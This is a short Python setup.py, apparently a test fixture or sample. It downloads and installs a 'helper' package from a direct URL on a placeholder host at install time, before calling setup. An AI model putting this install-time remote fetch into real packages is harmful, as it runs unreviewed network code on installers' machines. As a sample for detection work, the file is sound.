from setuptools import Distribution, setup

Distribution().fetch_build_eggs(["helper @ https://files.example.invalid/helper.tar.gz"])
setup(name="sample")
